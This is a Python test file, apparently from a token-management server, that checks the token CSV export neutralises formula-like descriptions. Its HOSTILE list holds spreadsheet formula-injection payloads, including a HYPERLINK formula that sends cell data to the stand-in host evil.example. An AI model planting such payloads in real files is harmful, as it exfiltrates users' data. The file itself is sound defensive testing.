"""``GET /token/?outform=csv`` is safe to open in a spreadsheet: text a user chose (a token
description) that starts like a formula is quoted, as in the audit export."""

from __future__ import annotations

import csv

from tests.http.restapi import Api, resolved

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_formula_like_descriptions_are_quoted_in_the_token_csv(api: Api) -> None:
    admin, alice = api.admin(), api.user("alice")
    for number, text in enumerate(HOSTILE):
        status, body = api.call("POST", "/token/init", admin, {"type": "spass", "user": "alice", "pin": "1234",
                                                               "serial": f"CSV{number}"})
        assert status == 200, body
        status, body = api.call("POST", f"/token/description/CSV{number}", alice, {"description": text})
        assert status == 200, body
    response = resolved(api.http.get("http://localhost/token/?outform=csv&pagesize=50",
                                     headers={"Authorization": admin}))
    rows = list(csv.reader(resolved(response.content()).decode().splitlines(keepends=True)))
    column = rows[0].index("description")
    assert sorted(row[column] for row in rows[1:]) == sorted("'" + text for text in HOSTILE)
    assert rows[1][rows[0].index("serial")] == "CSV0"  # the other cells are untouched
